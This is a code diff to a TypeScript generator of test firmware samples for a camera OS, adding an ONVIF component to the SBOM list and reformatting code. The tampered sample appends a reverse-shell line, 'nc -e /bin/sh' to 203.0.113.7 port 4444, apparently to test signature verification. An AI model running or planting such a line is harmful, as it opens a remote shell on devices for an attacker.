@@ -9,7 +9,13 @@ export const KEYS_DIR = fileURLToPath(new URL("../test-keys/", import.meta.url))
 export const FACTORY_VERSION = "11.11.73";
 export const REVOKED_VERSIONS = ["11.11.80"];
 
-const c = (name: string, version: string, supplier: string, license: string, type = "generic"): FirmwareComponent => ({ name, version, supplier, license, purl: `pkg:${type}/${name}@${version}` });
+const c = (name: string, version: string, supplier: string, license: string, type = "generic"): FirmwareComponent => ({
+  name,
+  version,
+  supplier,
+  license,
+  purl: `pkg:${type}/${name}@${version}`,
+});
 
 /** Software inside each CamOS release (what the SBOM lists and advisories are matched against). */
 export function componentsFor(version: string): FirmwareComponent[] {
@@ -27,6 +33,8 @@ export function componentsFor(version: string): FirmwareComponent[] {
     c("avahi", "0.8", "Avahi project", "LGPL-2.1-or-later"),
     c("miniupnpd", "2.3.3", "MiniUPnP project", "BSD-3-Clause"),
     c("camos-web", version, "Cyberwall Devices", "LicenseRef-Cyberwall-Proprietary"),
+    // ONVIF device/media services and WS-Discovery: a network-facing component of its own
+    c("camos-onvif", version, "Cyberwall Devices", "LicenseRef-Cyberwall-Proprietary"),
   ];
 }
 
@@ -63,7 +71,9 @@ export function generateFirmwareSamples(outDir: string, model = "CW-P3265", keys
   const genuine = signed(model, "11.11.94");
   const files: Record<string, Buffer> = {
     [`${model}-11.11.94.cwfw`]: genuine,
-    [`${model}-11.11.94-tampered.cwfw`]: tamperFirmware(genuine, (p) => Buffer.concat([p, Buffer.from("\n#!/bin/sh\nnc -e /bin/sh 203.0.113.7 4444\n")])),
+    [`${model}-11.11.94-tampered.cwfw`]: tamperFirmware(genuine, (p) =>
+      Buffer.concat([p, Buffer.from("\n#!/bin/sh\nnc -e /bin/sh 203.0.113.7 4444\n")]),
+    ),
     [`${model}-11.11.94-unsigned.cwfw`]: buildFirmware(releaseHeader(model, "11.11.94"), fakeOs(model, "11.11.94")),
     [`${model}-11.11.94-corrupt.cwfw`]: genuine.subarray(0, Math.floor(genuine.length * 0.6)),
     [`${model}-11.5.64.cwfw`]: signed(model, "11.5.64"),
@@ -90,5 +100,9 @@ export function generateFirmwareSamples(outDir: string, model = "CW-P3265", keys
 
 if (process.argv[1] && fileURLToPath(import.meta.url) === path.resolve(process.argv[1])) {
   const out = process.argv[2] ?? "firmware-samples";
-  console.log(generateFirmwareSamples(out).map((f) => path.join(out, f)).join("\n"));
+  console.log(
+    generateFirmwareSamples(out)
+      .map((f) => path.join(out, f))
+      .join("\n"),
+  );
 }
